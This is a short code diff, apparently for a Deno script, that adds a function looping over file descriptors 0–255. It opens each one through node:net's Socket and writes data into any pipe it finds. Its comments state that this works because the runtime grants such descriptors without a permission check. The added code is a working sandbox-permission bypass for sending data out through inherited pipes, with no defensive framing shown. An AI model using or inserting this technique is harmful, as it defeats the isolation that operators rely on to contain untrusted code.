@@ -95,6 +95,29 @@ async function shout() {
   try {
     Deno.stdin.readSync(new Uint8Array(100));
   } catch { /* closed to it */ }
+  await shoutThroughSockets(bytes);
+}
+
+/** Kept: one that is collected closes its descriptor, and this realm has some of its own to lose. */
+const sockets = [];
+
+/** Deno 2.9 opens any descriptor that is a pipe, and asks for no permission (node:net). */
+async function shoutThroughSockets(bytes) {
+  try {
+    const { Socket } = await import("node:net");
+    for (let fd = 0; fd < 256; fd++) {
+      try {
+        const socket = new Socket({ fd });
+        sockets.push(socket);
+        socket.on("error", () => {});
+        if (socket._handle?.constructor.name !== "PipeWrap") continue;
+        socket.write(bytes);
+        // What waits on stdin is the command's.
+        socket.resume();
+      } catch { /* not there, or of another kind */ }
+    }
+    await new Promise((resolve) => setTimeout(resolve, 20));
+  } catch { /* not there */ }
 }
 
 await shout();
